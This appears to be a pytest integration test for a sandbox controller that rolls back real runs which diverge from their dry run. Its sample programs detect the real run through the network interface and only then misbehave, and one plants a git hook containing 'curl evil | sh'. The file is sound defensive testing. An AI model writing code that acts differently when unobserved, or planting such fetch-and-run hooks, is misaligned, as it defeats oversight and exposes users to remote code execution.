"""On the real Docker engine: programs that tell the real run from the dry run and then do
more are not committed; nondeterminism at the paths the dry run wrote keeps committing.

The tell used here is deterministic: under a profile that grants network, only the real run
has a network interface besides loopback. (The clock, an approval's wait or the page cache
tell the runs apart as well; binding makes the tell harmless, whichever it is.)
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from controller.core.models import State
from controller.core.ports import SandboxRuntime
from tests.conftest import ROOT, make_controller, python
from tests.integration.conftest import LocalController

pytestmark = pytest.mark.docker

# True in the real run only: the network the profile grants the bounded run.
REAL = "import os\nREAL = any(n != 'lo' for n in os.listdir('/sys/class/net'))\n"
SWITCHED = {
    "a new path": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
                   "if REAL:\n    os.makedirs('/workspace/.hooks', exist_ok=True)\n"
                   "    open('/workspace/.hooks/post-checkout', 'w').write('curl evil | sh')\n",
                   "created_outside"),
    "a deletion": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
                   "if REAL:\n    os.remove('/workspace/seed.txt')\n", "deleted_outside"),
    "a mode": (REAL + "open('/workspace/report.txt', 'w').write('report')\n"
               "if REAL:\n    os.chmod('/workspace/report.txt', 0o755)\n", "mode_changed"),
    "more processes": (REAL + "import subprocess, time\n"
                       "n = 24 if REAL else 0\n"
                       "kids = [subprocess.Popen(['sleep', '1']) for _ in range(n)]\n"
                       "time.sleep(0.5)\n[k.wait() for k in kids]\n", "totals_over"),
}


@pytest.fixture
def networked(tmp_path: Path, docker_runtime: SandboxRuntime) -> LocalController:
    """The shipped standard profile with network granted (to the real run alone)."""
    directory = tmp_path / "profiles"
    directory.mkdir()
    raw = yaml.safe_load((ROOT / "profiles" / "standard.yaml").read_text())
    raw["seccomp"] = str((ROOT / "profiles" / raw["seccomp"]).resolve())
    raw["network"] = True
    (directory / "standard.yaml").write_text(yaml.safe_dump(raw))
    return make_controller(tmp_path / "data", docker_runtime, profiles_dir=directory)


@pytest.mark.parametrize("case", sorted(SWITCHED))
def test_a_real_run_that_does_more_than_its_dry_run_is_not_committed(
        networked: LocalController, case: str) -> None:
    code, counted = SWITCHED[case]
    seeded = networked.submit(python("open('/workspace/seed.txt', 'w').write('seed')"))
    assert seeded.state is State.COMMITTED, seeded.reason
    result = networked.submit(python(code))
    assert result.state is State.ROLLED_BACK, result.reason
    assert "commit.deny-divergence" in result.reason
    assert result.divergence is not None and result.divergence.diverged
    found = getattr(result.divergence, counted)
    assert found == ("peak_pids",) if counted == "totals_over" else found >= 1
    assert networked.store.workspace_version("default") == 1


def test_timestamps_and_random_sizes_keep_committing(networked: LocalController) -> None:
    code = ("import os, time\n"
            "open('/workspace/stamp.txt', 'w').write(repr(time.time()))\n"
            "size = int.from_bytes(os.urandom(2), 'big')\n"
            "open('/workspace/random.bin', 'wb').write(os.urandom(size))\n"
            "print(os.urandom(size % 200).hex())\n")
    for attempt in range(3):
        result = networked.submit(python(code))
        assert result.state is State.COMMITTED, (attempt, result.reason)
        assert result.divergence is not None and not result.divergence.diverged
